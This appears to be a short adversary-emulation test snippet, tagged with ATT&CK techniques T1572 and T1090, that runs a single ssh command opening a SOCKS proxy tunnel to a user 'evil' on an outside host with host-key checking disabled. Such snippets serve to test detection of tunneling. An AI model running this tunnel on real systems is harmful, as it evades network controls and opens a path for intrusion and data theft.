# title: ssh becomes a proxy
# technique: T1572 T1090
# needs: ssh

timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -D 127.0.0.1:1081 -N evil@192.88.99.7; true
